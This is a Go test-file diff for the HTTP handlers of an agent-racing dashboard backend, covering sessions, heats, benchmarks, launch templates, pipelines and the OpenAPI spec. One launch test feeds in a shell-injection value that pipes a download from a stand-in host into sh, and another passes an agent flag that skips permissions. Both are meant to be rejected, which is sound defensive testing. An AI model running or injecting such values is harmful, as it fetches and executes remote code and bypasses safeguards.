@@ -2,17 +2,31 @@ package ws
 
 import (
 	"encoding/json"
+	"errors"
+	"fmt"
 	"net/http"
 	"net/http/httptest"
+	"net/url"
 	"os"
 	"path/filepath"
 	"strings"
 	"testing"
 	"time"
 
+	"github.com/agent-racer/backend/internal/benchmark"
+	"github.com/agent-racer/backend/internal/chatops"
 	"github.com/agent-racer/backend/internal/config"
+	"github.com/agent-racer/backend/internal/director"
 	"github.com/agent-racer/backend/internal/gamification"
+	"github.com/agent-racer/backend/internal/heats"
+	"github.com/agent-racer/backend/internal/launch"
+	"github.com/agent-racer/backend/internal/names"
+	"github.com/agent-racer/backend/internal/recap"
+	"github.com/agent-racer/backend/internal/replay"
 	"github.com/agent-racer/backend/internal/session"
+	"github.com/agent-racer/backend/internal/share"
+	"github.com/agent-racer/backend/internal/status"
+	"github.com/agent-racer/backend/internal/tracks"
 )
 
 // newHandlerTestServer creates a Server with a real store and broadcaster,
@@ -145,6 +159,864 @@ func TestHandleSessions_ReturnsSessions(t *testing.T) {
 	}
 }
 
+func TestHandleSessions_OrderAndMetric(t *testing.T) {
+	s := newHandlerTestServer(t, "")
+	s.store.Update(&session.SessionState{ID: "a", Activity: session.Thinking, Position: 2, ContextUtilization: 0.2, TokensUsed: 900})
+	s.store.Update(&session.SessionState{ID: "b", Activity: session.Thinking, Position: 1, ContextUtilization: 0.6, TokensUsed: 100})
+	s.store.Update(&session.SessionState{ID: "0-done", Activity: session.Complete})
+
+	order := func(url string) string {
+		t.Helper()
+		rec := httptest.NewRecorder()
+		s.handleSessions(rec, authReq(http.MethodGet, url, "", ""))
+		if rec.Code != http.StatusOK {
+			t.Fatalf("%s: status = %d", url, rec.Code)
+		}
+		var sessions []*session.SessionState
+		if err := json.NewDecoder(rec.Body).Decode(&sessions); err != nil {
+			t.Fatalf("decode: %v", err)
+		}
+		got := ""
+		for _, st := range sessions {
+			got += fmt.Sprintf("%s@%d ", st.ID, st.Position)
+		}
+		return got
+	}
+
+	if got := order("/api/sessions"); got != "b@1 a@2 0-done@0 " {
+		t.Errorf("default order = %q", got)
+	}
+	if got := order("/api/sessions?metric=tokens"); got != "a@1 b@2 0-done@0 " {
+		t.Errorf("tokens order = %q", got)
+	}
+
+	rec := httptest.NewRecorder()
+	s.handleSessions(rec, authReq(http.MethodGet, "/api/sessions?metric=speed", "", ""))
+	if rec.Code != http.StatusBadRequest {
+		t.Errorf("unknown metric: status = %d, want 400", rec.Code)
+	}
+}
+
+// ─── handleSession ───────────────────────────────────────────────────────────
+
+func TestHandleSession_ReturnsOne(t *testing.T) {
+	s := newHandlerTestServer(t, "tok")
+	s.store.Update(&session.SessionState{ID: "sess-1", Name: "migrate", ContextUtilization: 0.4,
+		FilesTouched: map[string]int{"/src/app/main.go": 3}})
+	s.store.Update(&session.SessionState{ID: "sess-2", Name: "other"})
+
+	rec := httptest.NewRecorder()
+	s.handleSessionRoutes(rec, authReq(http.MethodGet, "/api/sessions/sess-1", "tok", ""))
+	if rec.Code != http.StatusOK {
+		t.Fatalf("status = %d, want %d", rec.Code, http.StatusOK)
+	}
+	var got SessionDetail
+	if err := json.NewDecoder(rec.Body).Decode(&got); err != nil {
+		t.Fatalf("decode: %v", err)
+	}
+	if got.ID != "sess-1" || got.Name != "migrate" || got.ContextUtilization != 0.4 {
+		t.Errorf("session = %+v", got.SessionState)
+	}
+	if got.FilesTouched["/src/app/main.go"] != 3 {
+		t.Errorf("FilesTouched = %v, want main.go touched 3 times", got.FilesTouched)
+	}
+}
+
+func TestHandleSession_Errors(t *testing.T) {
+	s := newHandlerTestServer(t, "")
+	s.store.Update(&session.SessionState{ID: "s1", WorkingDir: "/secret/repo"})
+	s.store.Update(&session.SessionState{ID: "s2", WorkingDir: "/home/me/repo"})
+	s.broadcaster.SetPrivacyFilter(&session.PrivacyFilter{BlockedPaths: []string{"/secret/*"}})
+
+	tests := []struct {
+		name   string
+		method string
+		id     string
+		want   int
+	}{
+		{"unknown", http.MethodGet, "nope", http.StatusNotFound},
+		{"hidden by privacy filter", http.MethodGet, "s1", http.StatusNotFound},
+		{"wrong method", http.MethodPost, "s2", http.StatusMethodNotAllowed},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			rec := httptest.NewRecorder()
+			s.handleSessionRoutes(rec, authReq(tt.method, "/api/sessions/"+tt.id, "", ""))
+			if rec.Code != tt.want {
+				t.Errorf("status = %d, want %d", rec.Code, tt.want)
+			}
+		})
+	}
+}
+
+// ─── handleProjects ──────────────────────────────────────────────────────────
+
+func TestHandleProjects_NoAuth(t *testing.T) {
+	s := newHandlerTestServer(t, "secret")
+	rec := httptest.NewRecorder()
+	s.handleProjects(rec, authReq(http.MethodGet, "/api/projects", "", ""))
+	if rec.Code != http.StatusUnauthorized {
+		t.Fatalf("status = %d, want %d", rec.Code, http.StatusUnauthorized)
+	}
+}
+
+func TestHandleProjects_GroupsWorktrees(t *testing.T) {
+	s := newHandlerTestServer(t, "")
+	s.store.Update(&session.SessionState{ID: "a", WorkingDir: "/src/agent-racer", Project: "agent-racer"})
+	s.store.Update(&session.SessionState{ID: "b", WorkingDir: "/src/agent-racer--fix-login", Project: "agent-racer", Worktree: "fix-login"})
+	s.store.Update(&session.SessionState{ID: "c", WorkingDir: "/src/other"})
+
+	rec := httptest.NewRecorder()
+	s.handleProjects(rec, authReq(http.MethodGet, "/api/projects", "", ""))
+	if rec.Code != http.StatusOK {
+		t.Fatalf("status = %d, want %d", rec.Code, http.StatusOK)
+	}
+	var projects []session.TeamInfo
+	if err := json.NewDecoder(rec.Body).Decode(&projects); err != nil {
+		t.Fatalf("decode: %v", err)
+	}
+	byName := make(map[string]session.TeamInfo)
+	for _, p := range projects {
+		byName[p.Name] = p
+	}
+	if len(byName) != 2 {
+		t.Fatalf("got projects %v, want agent-racer and other", projects)
+	}
+	ar := byName["agent-racer"]
+	if ar.SessionCount != 2 {
+		t.Errorf("agent-racer SessionCount = %d, want 2", ar.SessionCount)
+	}
+	if len(ar.Worktrees) != 1 || ar.Worktrees[0] != "fix-login" {
+		t.Errorf("agent-racer Worktrees = %v, want [fix-login]", ar.Worktrees)
+	}
+}
+
+// ─── handleDebugBroadcaster ──────────────────────────────────────────────────
+
+func TestHandleDebugBroadcaster_NoAuth(t *testing.T) {
+	s := newHandlerTestServer(t, "secret")
+	rec := httptest.NewRecorder()
+	s.handleDebugBroadcaster(rec, authReq(http.MethodGet, "/api/debug/broadcaster", "", ""))
+	if rec.Code != http.StatusUnauthorized {
+		t.Fatalf("status = %d, want %d", rec.Code, http.StatusUnauthorized)
+	}
+}
+
+func TestHandleDebugBroadcaster_ReportsQueue(t *testing.T) {
+	s := newHandlerTestServer(t, "secret")
+	s.broadcaster.SetConfig(time.Hour, time.Second)
+	s.broadcaster.QueueUpdate([]*session.SessionState{{ID: "a"}, {ID: "b"}})
+
+	rec := httptest.NewRecorder()
+	s.handleDebugBroadcaster(rec, authReq(http.MethodGet, "/api/debug/broadcaster", "secret", ""))
+	if rec.Code != http.StatusOK {
+		t.Fatalf("status = %d, want %d", rec.Code, http.StatusOK)
+	}
+	var m BroadcasterMetrics
+	if err := json.NewDecoder(rec.Body).Decode(&m); err != nil {
+		t.Fatalf("decode: %v", err)
+	}
+	if m.PendingUpdates != 2 {
+		t.Errorf("PendingUpdates = %d, want 2", m.PendingUpdates)
+	}
+	if m.MaxClients != 10 || m.SnapshotIntervalMs != 1000 {
+		t.Errorf("MaxClients = %d, SnapshotIntervalMs = %d, want 10 and 1000", m.MaxClients, m.SnapshotIntervalMs)
+	}
+}
+
+// ─── handleDebugStore ────────────────────────────────────────────────────────
+
+func TestHandleDebugStore_NoAuth(t *testing.T) {
+	s := newHandlerTestServer(t, "secret")
+	rec := httptest.NewRecorder()
+	s.handleDebugStore(rec, authReq(http.MethodGet, "/api/debug/store", "", ""))
+	if rec.Code != http.StatusUnauthorized {
+		t.Fatalf("status = %d, want %d", rec.Code, http.StatusUnauthorized)
+	}
+}
+
+func TestHandleDebugStore_ReportsSessions(t *testing.T) {
+	s := newHandlerTestServer(t, "secret")
+	s.store.SetMaxSubagents(1)
+	s.store.Update(&session.SessionState{ID: "a", Subagents: []session.SubagentState{{ID: "x"}, {ID: "y"}}})
+
+	rec := httptest.NewRecorder()
+	s.handleDebugStore(rec, authReq(http.MethodGet, "/api/debug/store", "secret", ""))
+	if rec.Code != http.StatusOK {
+		t.Fatalf("status = %d, want %d", rec.Code, http.StatusOK)
+	}
+	var m session.StoreMetrics
+	if err := json.NewDecoder(rec.Body).Decode(&m); err != nil {
+		t.Fatalf("decode: %v", err)
+	}
+	if m.Sessions != 1 || m.Subagents != 1 || m.SubagentsDropped != 1 {
+		t.Errorf("Sessions = %d, Subagents = %d, SubagentsDropped = %d, want 1, 1, 1", m.Sessions, m.Subagents, m.SubagentsDropped)
+	}
+	if len(m.Largest) != 1 || m.Largest[0].ID != "a" || m.Largest[0].Bytes == 0 {
+		t.Errorf("Largest = %+v", m.Largest)
+	}
+}
+
+// ─── handleAdminClients ──────────────────────────────────────────────────────
+
+func TestHandleAdminClients_NoAuth(t *testing.T) {
+	s := newHandlerTestServer(t, "secret")
+	rec := httptest.NewRecorder()
+	s.handleAdminClients(rec, authReq(http.MethodGet, "/api/admin/clients", "", ""))
+	if rec.Code != http.StatusUnauthorized {
+		t.Fatalf("status = %d, want %d", rec.Code, http.StatusUnauthorized)
+	}
+}
+
+func TestHandleAdminClients_ListsClients(t *testing.T) {
+	s := newHandlerTestServer(t, "secret")
+	c := makeClient(s.broadcaster)
+	c.remoteAddr = "10.0.0.7:5123"
+	c.clientID = "tui@laptop"
+	s.broadcaster.Introduce(c, HelloRequest{Name: "alice", Kind: "tui"})
+
+	rec := httptest.NewRecorder()
+	s.handleAdminClients(rec, authReq(http.MethodGet, "/api/admin/clients", "secret", ""))
+	if rec.Code != http.StatusOK {
+		t.Fatalf("status = %d, want %d", rec.Code, http.StatusOK)
+	}
+	var resp adminClientsResponse
+	if err := json.NewDecoder(rec.Body).Decode(&resp); err != nil {
+		t.Fatalf("decode: %v", err)
+	}
+	if len(resp.Clients) != 1 {
+		t.Fatalf("Clients = %+v, want 1", resp.Clients)
+	}
+	got := resp.Clients[0]
+	if got.Name != "alice" || got.Kind != "tui" || got.RemoteAddr != "10.0.0.7:5123" || got.ClientID != "tui@laptop" {
+		t.Errorf("client = %+v", got)
+	}
+}
+
+// ─── handleVersion ───────────────────────────────────────────────────────────
+
+func TestHandleVersion_NoAuth(t *testing.T) {
+	s := newHandlerTestServer(t, "secret")
+	rec := httptest.NewRecorder()
+	s.handleVersion(rec, authReq(http.MethodGet, "/api/version", "", ""))
+	if rec.Code != http.StatusUnauthorized {
+		t.Fatalf("status = %d, want %d", rec.Code, http.StatusUnauthorized)
+	}
+}
+
+func TestHandleVersion_ReportsBuild(t *testing.T) {
+	s := newHandlerTestServer(t, "secret")
+	s.SetVersionInfo(VersionInfo{Version: "v1.2.3", Commit: "abc1234", BuildDate: "2026-01-02T03:04:05Z", Frontend: "0123456789ab"})
+
+	rec := httptest.NewRecorder()
+	s.handleVersion(rec, authReq(http.MethodGet, "/api/version", "secret", ""))
+	if rec.Code != http.StatusOK {
+		t.Fatalf("status = %d, want %d", rec.Code, http.StatusOK)
+	}
+	var got VersionInfo
+	if err := json.NewDecoder(rec.Body).Decode(&got); err != nil {
+		t.Fatalf("decode: %v", err)
+	}
+	if got.Version != "v1.2.3" || got.Commit != "abc1234" || got.BuildDate != "2026-01-02T03:04:05Z" || got.Frontend != "0123456789ab" {
+		t.Errorf("version = %+v", got)
+	}
+}
+
+func TestHandleVersion_IncludesUpdate(t *testing.T) {
+	s := newHandlerTestServer(t, "")
+	s.SetVersionInfo(VersionInfo{Version: "v1.0.0"})
+	s.SetUpdateStatus(func() *UpdateAvailablePayload {
+		return &UpdateAvailablePayload{Current: "v1.0.0", Latest: "v1.1.0"}
+	})
+
+	rec := httptest.NewRecorder()
+	s.handleVersion(rec, authReq(http.MethodGet, "/api/version", "", ""))
+	var got VersionInfo
+	if err := json.NewDecoder(rec.Body).Decode(&got); err != nil {
+		t.Fatalf("decode: %v", err)
+	}
+	if got.Update == nil || got.Update.Latest != "v1.1.0" {
+		t.Errorf("update = %+v, want latest v1.1.0", got.Update)
+	}
+}
+
+// ─── handleDirector ──────────────────────────────────────────────────────────
+
+func TestHandleDirector(t *testing.T) {
+	s := newHandlerTestServer(t, "tok")
+	s.store.Update(&session.SessionState{ID: "s1", Name: "burner", Activity: session.ToolUse, BurnRatePerMinute: 5000})
+	s.SetDirector(director.New(func() []*session.SessionState { return s.store.GetAll() }))
+
+	rec := httptest.NewRecorder()
+	s.handleDirector(rec, authReq(http.MethodGet, "/api/director", "tok", ""))
+	var st director.Status
+	if err := json.NewDecoder(rec.Body).Decode(&st); err != nil {
+		t.Fatalf("decode: %v", err)
+	}
+	if st.Enabled || st.DwellSeconds != 20 || len(st.Rules) != 3 {
+		t.Errorf("default status = %+v", st)
+	}
+
+	// Partial update keeps the other settings.
+	rec = httptest.NewRecorder()
+	s.handleDirector(rec, authReq(http.MethodPut, "/api/director", "tok", `{"enabled":true,"dwellSeconds":30}`))
+	if rec.Code != http.StatusOK {
+		t.Fatalf("PUT status = %d: %s", rec.Code, rec.Body.String())
+	}
+	st = director.Status{}
+	if err := json.NewDecoder(rec.Body).Decode(&st); err != nil {
+		t.Fatalf("decode: %v", err)
+	}
+	if !st.Enabled || st.DwellSeconds != 30 || st.FinishingThreshold != director.DefaultFinishingThreshold {
+		t.Errorf("updated status = %+v", st)
+	}
+	if f, ok := s.director.Next(); !ok || f.SessionID != "s1" || f.Reason != director.ReasonBurnRate {
+		t.Errorf("Next() = %+v, %v", f, ok)
+	}
+}
+
+func TestHandleDirector_Errors(t *testing.T) {
+	s := newHandlerTestServer(t, "tok")
+	tests := []struct {
+		name   string
+		method string
+		token  string
+		body   string
+		want   int
+	}{
+		{"unavailable", http.MethodGet, "tok", "", http.StatusServiceUnavailable},
+		{"no auth", http.MethodGet, "", "", http.StatusUnauthorized},
+		{"wrong method", http.MethodPost, "tok", "{}", http.StatusMethodNotAllowed},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			rec := httptest.NewRecorder()
+			s.handleDirector(rec, authReq(tt.method, "/api/director", tt.token, tt.body))
+			if rec.Code != tt.want {
+				t.Errorf("status = %d, want %d", rec.Code, tt.want)
+			}
+		})
+	}
+
+	s.SetDirector(director.New(func() []*session.SessionState { return nil }))
+	rec := httptest.NewRecorder()
+	s.handleDirector(rec, authReq(http.MethodPut, "/api/director", "tok", `{"dwellSeconds":1}`))
+	if rec.Code != http.StatusBadRequest {
+		t.Errorf("invalid dwell: status = %d, want %d", rec.Code, http.StatusBadRequest)
+	}
+}
+
+// ─── handleHeats ─────────────────────────────────────────────────────────────
+
+func TestHandleHeats(t *testing.T) {
+	s := newHandlerTestServer(t, "tok")
+	s.store.Update(&session.SessionState{ID: "s1", Name: "opus", Activity: session.Thinking, ContextUtilization: 0.2})
+	s.store.Update(&session.SessionState{ID: "s2", Name: "sonnet", Activity: session.Thinking, ContextUtilization: 0.6})
+	s.SetHeats(heats.New(s.store.GetAll))
+
+	rec := httptest.NewRecorder()
+	s.handleHeats(rec, authReq(http.MethodPost, "/api/heats", "tok", `{"name":"shootout","sessionIds":["s1","s2"],"finish":{"kind":"first"}}`))
+	if rec.Code != http.StatusCreated {
+		t.Fatalf("POST status = %d: %s", rec.Code, rec.Body.String())
+	}
+	var h heats.Heat
+	if err := json.NewDecoder(rec.Body).Decode(&h); err != nil {
+		t.Fatalf("decode: %v", err)
+	}
+	if h.Name != "shootout" || h.Status != heats.StatusRunning || len(h.Standings) != 2 || h.Standings[0].SessionID != "s2" {
+		t.Errorf("created heat = %+v", h)
+	}
+
+	rec = httptest.NewRecorder()
+	s.handleHeats(rec, authReq(http.MethodGet, "/api/heats", "tok", ""))
+	var list []heats.Heat
+	if err := json.NewDecoder(rec.Body).Decode(&list); err != nil {
+		t.Fatalf("decode: %v", err)
+	}
+	if len(list) != 1 || list[0].ID != h.ID {
+		t.Errorf("list = %+v", list)
+	}
+
+	rec = httptest.NewRecorder()
+	s.handleHeat(rec, authReq(http.MethodGet, "/api/heats/"+h.ID, "tok", ""))
+	if rec.Code != http.StatusOK || !strings.Contains(rec.Body.String(), `"shootout"`) {
+		t.Errorf("GET heat: %d %s", rec.Code, rec.Body.String())
+	}
+}
+
+func TestHandleHeats_Errors(t *testing.T) {
+	s := newHandlerTestServer(t, "tok")
+	rec := httptest.NewRecorder()
+	s.handleHeats(rec, authReq(http.MethodGet, "/api/heats", "tok", ""))
+	if rec.Code != http.StatusServiceUnavailable {
+		t.Errorf("unavailable: status = %d", rec.Code)
+	}
+
+	s.store.Update(&session.SessionState{ID: "s1", Activity: session.Thinking})
+	s.SetHeats(heats.New(s.store.GetAll))
+	tests := []struct {
+		name   string
+		method string
+		token  string
+		body   string
+		want   int
+	}{
+		{"no auth", http.MethodGet, "", "", http.StatusUnauthorized},
+		{"wrong method", http.MethodPut, "tok", "{}", http.StatusMethodNotAllowed},
+		{"bad body", http.MethodPost, "tok", "{", http.StatusBadRequest},
+		{"one session", http.MethodPost, "tok", `{"sessionIds":["s1"]}`, http.StatusBadRequest},
+		{"unknown session", http.MethodPost, "tok", `{"sessionIds":["s1","nope"]}`, http.StatusBadRequest},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			rec := httptest.NewRecorder()
+			s.handleHeats(rec, authReq(tt.method, "/api/heats", tt.token, tt.body))
+			if rec.Code != tt.want {
+				t.Errorf("status = %d, want %d", rec.Code, tt.want)
+			}
+		})
+	}
+
+	rec = httptest.NewRecorder()
+	s.handleHeat(rec, authReq(http.MethodGet, "/api/heats/heat-missing", "tok", ""))
+	if rec.Code != http.StatusNotFound {
+		t.Errorf("missing heat: status = %d, want 404", rec.Code)
+	}
+}
+
+// ─── handleBenchmarks ────────────────────────────────────────────────────────
+
+func TestHandleBenchmarks(t *testing.T) {
+	s := newHandlerTestServer(t, "tok")
+	runner, err := benchmark.NewRunner(t.TempDir(), s.store.GetAll)
+	if err != nil {
+		t.Fatalf("NewRunner: %v", err)
+	}
+	runner.Configure(benchmark.Settings{Tasks: []benchmark.Task{
+		{Name: "noop", Agents: []benchmark.Agent{{Label: "a", Command: []string{"true"}}}},
+	}})
+	s.SetBenchmarks(runner)
+
+	rec := httptest.NewRecorder()
+	s.handleBenchmarkRun(rec, authReq(http.MethodPost, "/api/benchmarks/run", "tok", `{"task":"noop"}`))
+	if rec.Code != http.StatusAccepted {
+		t.Fatalf("POST status = %d: %s", rec.Code, rec.Body.String())
+	}
+	var runs []benchmark.Run
+	if err := json.NewDecoder(rec.Body).Decode(&runs); err != nil || len(runs) != 1 || runs[0].Task != "noop" {
+		t.Fatalf("runs = %+v, %v", runs, err)
+	}
+
+	var got benchmarksResponse
+	deadline := time.Now().Add(5 * time.Second)
+	for len(got.Results) == 0 && time.Now().Before(deadline) {
+		time.Sleep(10 * time.Millisecond)
+		rec = httptest.NewRecorder()
+		s.handleBenchmarks(rec, authReq(http.MethodGet, "/api/benchmarks", "tok", ""))
+		got = benchmarksResponse{}
+		if err := json.NewDecoder(rec.Body).Decode(&got); err != nil {
+			t.Fatalf("decode: %v", err)
+		}
+	}
+	if len(got.Tasks) != 1 || len(got.Results) != 1 || got.Results[0].RunID != runs[0].RunID || got.Results[0].ExitCode != 0 {
+		t.Errorf("GET = %+v", got)
+	}
+}
+
+func TestHandleBenchmarks_Errors(t *testing.T) {
+	s := newHandlerTestServer(t, "tok")
+	rec := httptest.NewRecorder()
+	s.handleBenchmarks(rec, authReq(http.MethodGet, "/api/benchmarks", "tok", ""))
+	if rec.Code != http.StatusServiceUnavailable {
+		t.Errorf("unavailable: status = %d", rec.Code)
+	}
+
+	runner, err := benchmark.NewRunner(t.TempDir(), nil)
+	if err != nil {
+		t.Fatalf("NewRunner: %v", err)
+	}
+	s.SetBenchmarks(runner)
+	tests := []struct {
+		name   string
+		method string
+		token  string
+		body   string
+		want   int
+	}{
+		{"no auth", http.MethodPost, "", "", http.StatusUnauthorized},
+		{"wrong method", http.MethodGet, "tok", "", http.StatusMethodNotAllowed},
+		{"bad body", http.MethodPost, "tok", "{", http.StatusBadRequest},
+		{"no tasks", http.MethodPost, "tok", "", http.StatusBadRequest},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			rec := httptest.NewRecorder()
+			s.handleBenchmarkRun(rec, authReq(tt.method, "/api/benchmarks/run", tt.token, tt.body))
+			if rec.Code != tt.want {
+				t.Errorf("status = %d, want %d", rec.Code, tt.want)
+			}
+		})
+	}
+
+	runner.Configure(benchmark.Settings{Tasks: []benchmark.Task{{Name: "a", Agents: []benchmark.Agent{{Label: "x", Command: []string{"true"}}}}}})
+	rec = httptest.NewRecorder()
+	s.handleBenchmarkRun(rec, authReq(http.MethodPost, "/api/benchmarks/run", "tok", `{"task":"b"}`))
+	if rec.Code != http.StatusNotFound {
+		t.Errorf("unknown task: status = %d, want 404", rec.Code)
+	}
+}
+
+// ─── handleLaunch ────────────────────────────────────────────────────────────
+
+func TestHandleLaunch(t *testing.T) {
+	// A stand-in tmux that reports the pane it "opened".
+	bin := t.TempDir()
+	if err := os.WriteFile(filepath.Join(bin, "tmux"), []byte("#!/bin/sh\necho dev:4.0\n"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	t.Setenv("PATH", bin)
+
+	s := newHandlerTestServer(t, "tok")
+	l := launch.New(s.store)
+	l.Configure(launch.Settings{Templates: []launch.Template{{Name: "opus", Command: []string{"claude", "--session-id", "{session_id}"}, Cwd: "/tmp"}}})
+	s.SetLauncher(l)
+
+	rec := httptest.NewRecorder()
+	s.handleLaunch(rec, authReq(http.MethodGet, "/api/launch", "tok", ""))
+	var templates []launch.Template
+	if err := json.NewDecoder(rec.Body).Decode(&templates); err != nil || len(templates) != 1 {
+		t.Fatalf("GET = %+v, %v", templates, err)
+	}
+
+	rec = httptest.NewRecorder()
+	s.handleLaunch(rec, authReq(http.MethodPost, "/api/launch", "tok", `{"template":"opus"}`))
+	if rec.Code != http.StatusCreated {
+		t.Fatalf("POST status = %d: %s", rec.Code, rec.Body.String())
+	}
+	var got session.SessionState
+	if err := json.NewDecoder(rec.Body).Decode(&got); err != nil {
+		t.Fatalf("decode: %v", err)
+	}
+	if !got.Launched || got.TmuxTarget != "dev:4.0" || got.Activity != session.Starting {
+		t.Errorf("launched session = %+v", got)
+	}
+	if _, ok := s.store.Get(got.ID); !ok {
+		t.Errorf("session %q not pre-registered in the store", got.ID)
+	}
+}
+
+func TestHandleLaunch_Errors(t *testing.T) {
+	s := newHandlerTestServer(t, "tok")
+	rec := httptest.NewRecorder()
+	s.handleLaunch(rec, authReq(http.MethodGet, "/api/launch", "tok", ""))
+	if rec.Code != http.StatusServiceUnavailable {
+		t.Errorf("unavailable: status = %d", rec.Code)
+	}
+
+	l := launch.New(s.store)
+	l.Configure(launch.Settings{Templates: []launch.Template{{Name: "a", Command: []string{"claude --model {model}"}}}})
+	s.SetLauncher(l)
+	tests := []struct {
+		name   string
+		method string
+		token  string
+		body   string
+		want   int
+	}{
+		{"no auth", http.MethodPost, "", `{"template":"x"}`, http.StatusUnauthorized},
+		{"wrong method", http.MethodDelete, "tok", "", http.StatusMethodNotAllowed},
+		{"bad body", http.MethodPost, "tok", "{", http.StatusBadRequest},
+		{"no template", http.MethodPost, "tok", `{}`, http.StatusBadRequest},
+		{"unknown template", http.MethodPost, "tok", `{"template":"x"}`, http.StatusNotFound},
+		{"shell in model", http.MethodPost, "tok", `{"template":"a","model":"x; curl evil.example | sh"}`, http.StatusBadRequest},
+		{"flag as model", http.MethodPost, "tok", `{"template":"a","model":"--dangerously-skip-permissions"}`, http.StatusBadRequest},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			rec := httptest.NewRecorder()
+			s.handleLaunch(rec, authReq(tt.method, "/api/launch", tt.token, tt.body))
+			if rec.Code != tt.want {
+				t.Errorf("status = %d, want %d", rec.Code, tt.want)
+			}
+		})
+	}
+}
+
+// ─── handleSlackCommand ──────────────────────────────────────────────────────
+
+func TestHandleSlackCommand(t *testing.T) {
+	s := newHandlerTestServer(t, "tok")
+	rec := httptest.NewRecorder()
+	s.handleSlackCommand(rec, authReq(http.MethodPost, "/api/chatops/slack", "tok", "text=status"))
+	if rec.Code != http.StatusServiceUnavailable {
+		t.Errorf("unavailable: status = %d", rec.Code)
+	}
+
+	b := chatops.New(s.store.GetAll, s.broadcaster.FilterSessions)
+	b.Configure(chatops.Settings{Enabled: true, SigningSecret: "shh"})
+	s.SetChatOps(b)
+
+	// The server's bearer token is no substitute for Slack's signature.
+	rec = httptest.NewRecorder()
+	s.handleSlackCommand(rec, authReq(http.MethodPost, "/api/chatops/slack", "tok", "text=status"))
+	if rec.Code != http.StatusUnauthorized {
+		t.Errorf("unsigned: status = %d, want 401", rec.Code)
+	}
+}
+
+// ─── handlePipelines ─────────────────────────────────────────────────────────
+
+func TestHandlePipelines(t *testing.T) {
+	bin := t.TempDir()
+	if err := os.WriteFile(filepath.Join(bin, "tmux"), []byte("#!/bin/sh\necho dev:5.0\n"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	t.Setenv("PATH", bin)
+
+	s := newHandlerTestServer(t, "tok")
+	l := launch.New(s.store)
+	l.Configure(launch.Settings{
+		Templates: []launch.Template{{Name: "plan", Command: []string{"claude"}}, {Name: "build", Command: []string{"claude"}}},
+		Pipelines: []launch.Pipeline{{Name: "relay", Stages: []string{"plan", "build"}}},
+	})
+	s.SetLauncher(l)
+
+	rec := httptest.NewRecorder()
+	s.handlePipelines(rec, authReq(http.MethodPost, "/api/pipelines", "tok", `{"pipeline":"relay"}`))
+	if rec.Code != http.StatusCreated {
+		t.Fatalf("POST status = %d: %s", rec.Code, rec.Body.String())
+	}
+	var run launch.PipelineRun
+	if err := json.NewDecoder(rec.Body).Decode(&run); err != nil || run.Stages[0].Status != launch.StageRunning {
+		t.Fatalf("run = %+v, %v", run, err)
+	}
+
+	rec = httptest.NewRecorder()
+	s.handlePipelines(rec, authReq(http.MethodGet, "/api/pipelines", "tok", ""))
+	var got pipelinesResponse
+	if err := json.NewDecoder(rec.Body).Decode(&got); err != nil {
+		t.Fatalf("decode: %v", err)
+	}
+	if len(got.Pipelines) != 1 || len(got.Runs) != 1 || got.Runs[0].ID != run.ID {
+		t.Errorf("GET = %+v", got)
+	}
+}
+
+func TestHandlePipelines_Errors(t *testing.T) {
+	s := newHandlerTestServer(t, "tok")
+	rec := httptest.NewRecorder()
+	s.handlePipelines(rec, authReq(http.MethodGet, "/api/pipelines", "tok", ""))
+	if rec.Code != http.StatusServiceUnavailable {
+		t.Errorf("unavailable: status = %d", rec.Code)
+	}
+
+	l := launch.New(s.store)
+	l.Configure(launch.Settings{Templates: []launch.Template{{Name: "plan", Command: []string{"claude"}}}})
+	s.SetLauncher(l)
+	tests := []struct {
+		name   string
+		method string
+		token  string
+		body   string
+		want   int
+	}{
+		{"no auth", http.MethodPost, "", `{"pipeline":"relay"}`, http.StatusUnauthorized},
+		{"wrong method", http.MethodPut, "tok", "", http.StatusMethodNotAllowed},
+		{"bad body", http.MethodPost, "tok", "{", http.StatusBadRequest},
+		{"unknown pipeline", http.MethodPost, "tok", `{"pipeline":"relay"}`, http.StatusNotFound},
+		{"ad hoc unknown stage", http.MethodPost, "tok", `{"stages":["plan","review"]}`, http.StatusBadRequest},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			rec := httptest.NewRecorder()
+			s.handlePipelines(rec, authReq(tt.method, "/api/pipelines", tt.token, tt.body))
+			if rec.Code != tt.want {
+				t.Errorf("status = %d, want %d", rec.Code, tt.want)
+			}
+		})
+	}
+}
+
+// ─── handleOpenAPI ───────────────────────────────────────────────────────────
+
+func TestHandleOpenAPI_PublicAndResolvable(t *testing.T) {
+	srv := newHandlerTestServer(t, "secret")
+	srv.SetVersionInfo(VersionInfo{Version: "1.2.3"})
+	rec := httptest.NewRecorder()
+	srv.handleOpenAPI(rec, authReq(http.MethodGet, "/api/openapi.json", "", ""))
+
+	if rec.Code != http.StatusOK {
+		t.Fatalf("status = %d, want 200", rec.Code)
+	}
+	var doc struct {
+		OpenAPI string `json:"openapi"`
+		Info    struct {
+			Version string `json:"version"`
+		} `json:"info"`
+		Paths      map[string]map[string]json.RawMessage `json:"paths"`
+		Components struct {
+			Schemas map[string]json.RawMessage `json:"schemas"`
+		} `json:"components"`
+	}
+	body := rec.Body.String()
+	if err := json.Unmarshal([]byte(body), &doc); err != nil {
+		t.Fatalf("decode: %v", err)
+	}
+	if doc.OpenAPI != "3.1.0" || doc.Info.Version != "1.2.3" {
+		t.Errorf("openapi = %q, version = %q", doc.OpenAPI, doc.Info.Version)
+	}
+	for _, path := range []string{"/api/sessions", "/api/replays/{id}", "/api/stats", "/api/config"} {
+		if doc.Paths[path]["get"] == nil {
+			t.Errorf("paths[%q].get missing", path)
+		}
+	}
+
+	const prefix = `"$ref": "#/components/schemas/`
+	for rest := body; ; {
+		i := strings.Index(rest, prefix)
+		if i < 0 {
+			break
+		}
+		rest = rest[i+len(prefix):]
+		name := rest[:strings.IndexByte(rest, '"')]
+		if doc.Components.Schemas[name] == nil {
+			t.Errorf("$ref to undefined schema %q", name)
+		}
+	}
+}
+
+func TestHandleOpenAPI_MethodNotAllowed(t *testing.T) {
+	srv := newHandlerTestServer(t, "")
+	rec := httptest.NewRecorder()
